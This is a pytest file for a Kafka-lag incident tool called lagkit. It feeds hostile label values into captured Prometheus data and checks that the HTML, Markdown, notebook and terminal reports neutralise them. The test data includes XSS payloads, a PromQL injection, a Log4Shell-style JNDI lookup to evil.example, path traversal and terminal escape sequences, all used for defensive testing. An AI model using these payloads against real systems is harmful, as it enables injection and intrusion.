"""Hostile labels, unknown names and killed captures, on a real Prometheus and a real Chromium."""

from __future__ import annotations

import html.parser
import json
import random
import re
import time
import unicodedata
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import browser
import command
import incidents
import pandas as pd
import pytest

from lagkit import disk
from lagkit.incident import Incident, open_incident

from .recorded import INTERVAL, SCRAPED, Recording, in_openmetrics, own, serving

SEED = 20261124
DASHBOARDS = "https://grafana.gostoa.dev/"
KILLS = 70  # with the thirty of a report in tests/test_durability.py: a hundred
SCRIPT = "<script>document.title='ran'</script>"
IMAGE = "<img src=x onerror=\"document.title='ran'\">"
GROUP = f'{IMAGE}"}} or vector(1) # ${{jndi:ldap://evil.example/x}}'
TOPICS = (
    "../../etc/passwd",
    SCRIPT,
    "line\nbreak\r\n# heading",
    "x" * 249,
    "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "\u202egnp.exe\u2066\u200b",
    "{{7*7}}{% for x in y %}{0.__class__}%s",
    "[a](javascript:alert(1)) `rm -rf` | ![b](http://evil.example/x.png)",
    '"} or up{job=~".+"} or label_replace(up, "x',
    "</td></table></svg>&lt;b&gt;--><!--",
)


def page(hour: int, group: str, topics: tuple[str, ...], consumed: float = 0.2) -> Recording:
    """Return the page of an exporter of *group*, which reads less than is written."""
    parts = []
    for number, topic in enumerate(topics):
        where = f'topic="{in_openmetrics(topic)}",partition="0"'
        mine = f'consumergroup="{in_openmetrics(group)}",{where}'
        written = 1000 * (number + 1)
        parts += [
            ("kafka_topic_partition_current_offset", where, lambda s, w=written: w + 50 * s),
            ("kafka_topic_partition_oldest_offset", where, lambda _: 0),
            ("kafka_consumergroup_current_offset", mine,
             lambda s, w=written: w + int(50 * s * consumed)),
            ("kafka_consumergroup_lag", mine,
             lambda s: 50 * s - int(50 * s * consumed)),
        ]  # fmt: skip
    return own(hour, *parts)


HOSTILE, PLAIN = page(0, GROUP, TOPICS), page(2, "deployment-worker", ("deploy-requests",))
OTHER = own(4, ("process_cpu_seconds_total", 'a="b"', float))


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with serving(tmp_path_factory.mktemp("prometheus"), [HOSTILE, PLAIN]) as address:
        yield address


def window(recording: Recording) -> list[str]:
    begin = pd.Timestamp(recording.start, unit="s", tz="UTC")
    end = begin + pd.Timedelta(seconds=SCRAPED * INTERVAL)
    return ["--start", begin.isoformat(), "--end", end.isoformat()]


def left(folder: Path) -> list[str]:
    return sorted(entry.name for entry in folder.iterdir())


# -- names that nobody knows


def test_an_unknown_group_ends_with_3_and_names_near_ones(url: str, tmp_path: Path) -> None:
    for verb in ("capture", "investigate"):
        done = command.run(
            verb, "deployment-woker", "--prometheus", url, *window(PLAIN), cwd=tmp_path
        )
        assert done.status == 3
        assert "No group 'deployment-woker'" in done.err
        assert "Near: deployment-worker" in done.err
        assert left(tmp_path) == []


def test_a_window_before_any_sample_ends_with_3(url: str, tmp_path: Path) -> None:
    before = ["--start", "2025-01-05T00:00:00Z", "--end", "2025-01-05T01:00:00Z"]
    done = command.run(
        "investigate", "deployment-worker", "--prometheus", url, *before, cwd=tmp_path
    )
    assert done.status == 3, done.err
    assert "2025-01-05 00:00:00Z and 2025-01-05 01:00:00Z" in done.err
    assert left(tmp_path) == []


def test_a_prometheus_without_any_kafka_metric_is_said_to_have_none(tmp_path: Path) -> None:
    (tmp_path / "server").mkdir()
    with serving(tmp_path / "server", [OTHER]) as address:
        (tmp_path / "here").mkdir()
        done = command.run(
            "investigate", "g", "--prometheus", address, *window(OTHER), cwd=tmp_path / "here"
        )
    assert done.status == 3, done.err
    assert "whether there is a group 'g' is not known: no lag exporter writes here" in done.err
    assert "looked for kafka_consumergroup_group_lag" in done.err
    assert "Deploy a lag exporter" in done.err
    assert done.out == ""
    assert left(tmp_path / "here") == []


# -- hostile texts, all the way


class Elements(html.parser.HTMLParser):
    """The elements of a document, as a browser would take it apart."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def with_hostile_words(incident: Incident) -> Incident:
    """Add what Kubernetes and the downstream can be made to say: logs, events, answers."""
    donor = incidents.make("poison_crash")
    texts = [*TOPICS, GROUP]

    def said(name: str, *columns: str) -> pd.DataFrame:
        table = getattr(donor, name).copy()
        for column in columns:
            table[column] = [texts[n % len(texts)] for n in range(len(table))]
        return table.astype(dict.fromkeys(columns, "str"))

    whole = incidents.with_tables(
        incident,
        logs=said("logs", "message"),
        events=said("events", "message", "reason", "component"),
        pods=said("pods", "state_reason", "unschedulable", "image"),
        rollouts=said("rollouts", "change_cause", "image"),
        downstream=said("downstream", "detail", "url"),
        configs=said("configs", "value"),
    )
    return replace(whole, sources={**incident.sources, "kubernetes": donor.sources["kubernetes"]})


@pytest.fixture(scope="module")
def report(url: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    taken = command.run(
        "capture", "--prometheus", url, *window(HOSTILE), "--out", "taken.lagkit", "--", GROUP,
        cwd=folder,
    )  # fmt: skip
    assert taken.status == 0, taken.err
    assert left(folder) == ["taken.lagkit"]
    incident = open_incident(folder / "taken.lagkit")
    assert incident.group == GROUP
    assert set(incident.offsets["topic"]) == set(TOPICS)
    with_hostile_words(incident).save(folder / "whole.lagkit")
    done = command.run("investigate", "whole.lagkit", "--out", "out", "--pdf", cwd=folder)
    assert done.status == 0, done.err
    assert left(folder) == ["out", "taken.lagkit", "whole.lagkit"]
    (folder / "terminal.txt").write_text(taken.both + done.both, encoding="utf-8")
    return folder / "out"


def test_the_terminal_is_given_no_control_character(report: Path) -> None:
    shown = (report.parent / "terminal.txt").read_text(encoding="utf-8")
    hidden = {c for c in shown if c != "\n" and unicodedata.category(c) in {"Cc", "Cf", "Co"}}
    assert hidden == set()
    assert "VERDICT" in shown


def test_no_file_is_named_by_a_label(report: Path) -> None:
    assert left(report) == [
        "incident.lagkit",
        "report.html",
        "report.ipynb",
        "report.md",
        "report.pdf",
        "verdict.json",
    ]
    assert (report / "report.pdf").read_bytes().startswith(b"%PDF-1.7")


def test_chromium_runs_nothing_and_shows_no_foreign_element(report: Path, tmp_path: Path) -> None:
    from selenium.webdriver.support.ui import WebDriverWait

    with browser.chromium(tmp_path / "profile") as driver:
        browser.requests_of(driver)
        driver.get((report / "report.html").as_uri())
        WebDriverWait(driver, 120).until(
            lambda d: d.execute_script("return document.documentElement.dataset.charts")
        )
        asked = [a for a in browser.requests_of(driver) if not a.startswith(("data:", "blob:"))]
        assert asked == [(report / "report.html").as_uri()]
        assert "ran" not in driver.title.split()
        assert "owned" not in driver.title
        foreign = (
            "img, iframe, object, embed, form, video, audio, base, "
            "script[src], link[href]:not([href='data:,']), a[href^='javascript' i], "
            # the runbook's own dashboards take names as data, written into their query
            f"a[href*='evil']:not([href^='{DASHBOARDS}']), "
            "[onerror], [onload], [onclick]"
        )
        found = driver.execute_script(
            "return [...document.querySelectorAll(arguments[0])].map(e => e.outerHTML)", foreign
        )
        assert found == []
        scripts = driver.execute_script(
            "return [...document.scripts].filter(s => !s.type.includes('json'))"
            ".map(s => s.textContent.slice(0, 60))"
        )
        assert not any("ran" in text.split("'") for text in scripts)
        assert len(scripts) == 2
        assert driver.get_log("browser") == []
        text = driver.execute_script("return document.body.textContent")
        assert SCRIPT in text, "it is shown, as text"


def rendered(text: str) -> str:
    """Return Markdown as the HTML that a generous renderer makes of it."""
    import mistune

    plugins = ["table", "strikethrough", "url"]
    return str(mistune.create_markdown(escape=False, plugins=plugins)(text))


def test_rendered_markdown_holds_no_foreign_element(report: Path) -> None:
    text = (report / "report.md").read_text(encoding="utf-8")
    found = Elements(rendered(text)).found
    tags = {tag for tag, _ in found}
    assert tags.isdisjoint({"script", "img", "iframe", "form", "svg"})
    links = [attributes["href"] for tag, attributes in found if tag == "a"]
    assert links
    assert all(str(link).startswith(DASHBOARDS) and "<" not in str(link) for link in links)


def test_the_notebook_holds_no_foreign_element(report: Path) -> None:
    notebook = json.loads((report / "report.ipynb").read_text(encoding="utf-8"))
    data = [output.get("data", {}) for cell in notebook["cells"]
            for output in cell.get("outputs", ())]  # fmt: skip
    shown = ["".join(part[kind]) for part in data for kind in ("text/html", "image/svg+xml")
             if kind in part]  # fmt: skip
    shown += [rendered("".join(part["text/markdown"])) for part in data if "text/markdown" in part]
    assert shown
    for text in shown:
        bad = [
            (tag, attributes)
            for tag, attributes in Elements(text).found
            if tag in {"img", "iframe", "form"}
            or any(name.startswith("on") for name in attributes)
            or (attributes.get("href") or "").startswith(("javascript", "http://evil"))
        ]
        assert bad == []
        assert SCRIPT not in text


# -- killed


def kill_over_and_over(arguments: list[str], folder: Path, moments: list[float]) -> None:
    """Kill the capture after each of *moments*, in seconds; what it left must be whole."""
    first = open_incident(folder / "x.lagkit")
    for moment in moments:
        process = command.started(*arguments, cwd=folder)
        time.sleep(moment)
        process.kill()
        process.wait()
        process.stderr.close()
        seen = open_incident(folder / "x.lagkit")
        assert len(seen.offsets) == len(first.offsets)
        assert all(name == "x.lagkit" or disk.is_part(name) for name in left(folder))


def test_a_capture_killed_at_any_moment_leaves_the_old_file_or_the_new_one(
    url: str, tmp_path: Path
) -> None:
    """In two folders at once, one for each core."""
    arguments = [
        "capture", "deployment-worker", "--prometheus", url, *window(PLAIN), "--out", "x.lagkit"
    ]  # fmt: skip
    folders = [tmp_path / name for name in "ab"]
    for folder in folders:
        folder.mkdir()
    with ThreadPoolExecutor(len(folders)) as pool:
        begun = time.monotonic()
        runs = list(pool.map(lambda folder: command.run(*arguments, cwd=folder), folders))
        length = time.monotonic() - begun
        assert [done.status for done in runs] == [0, 0]
        source = random.Random(SEED)
        moments = [source.uniform(0.3, 1.0) * length for _ in range(KILLS)]
        halves = (moments[::2], moments[1::2])
        list(pool.map(kill_over_and_over, [arguments] * len(folders), folders, halves))
    for folder in folders:
        done = command.run(*arguments, cwd=folder)
        assert done.status == 0
        assert done.out == "x.lagkit\n"
        assert left(folder) == ["x.lagkit"]


def test_an_incident_announced_as_saved_gets_a_name_of_its_own(url: str, tmp_path: Path) -> None:
    arguments = ["capture", "deployment-worker", "--prometheus", url, *window(PLAIN)]
    processes = [command.started(*arguments, cwd=tmp_path, stdout=-1, stderr=-3) for _ in range(3)]
    said = {process.communicate(timeout=command.SECONDS)[0].strip() for process in processes}
    assert [process.returncode for process in processes] == [0, 0, 0]
    assert sorted(said) == left(tmp_path)
    assert len(said) == 3
    assert all(re.fullmatch(r"lagkit-deployment-worker-\w+(-\d)?\.lagkit", name) for name in said)
    for name in said:
        open_incident(tmp_path / name)


def test_no_room_for_a_capture_keeps_it_where_temporary_files_go(url: str, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    env = command.environment(TMPDIR=str(elsewhere))
    asked = ["deployment-worker", "--prometheus", url, *window(PLAIN)]
    with command.small_disk(tmp_path / "full", "4k") as full:
        done = command.run("capture", *asked, "--out", full / "x.lagkit", cwd=tmp_path, env=env)
        assert done.status == 5
        assert "x.lagkit did not take the capture: No space left on device" in done.err
        kept = Path(done.out.strip())
        assert kept.parent == elsewhere
        assert open_incident(kept).group == "deployment-worker"
        kept.unlink()
        done = command.run("investigate", *asked, "--out", full / "out", cwd=tmp_path, env=env)
        assert done.status == 5
        assert "VERDICT" in done.out
        assert left(full) == []
    (kept,) = elsewhere.glob("*.lagkit")
    assert str(kept) in done.err
    open_incident(kept)


def test_the_clock_of_prometheus_is_measured_at_capture(url: str, tmp_path: Path) -> None:
    arguments = ["deployment-worker", "--prometheus", url, *window(PLAIN), "--out", "x.lagkit"]
    assert command.run("capture", *arguments, cwd=tmp_path).status == 0
    facts = open_incident(tmp_path / "x.lagkit").facts["prometheus"]
    assert abs(float(facts["clock_skew_seconds"])) < 5
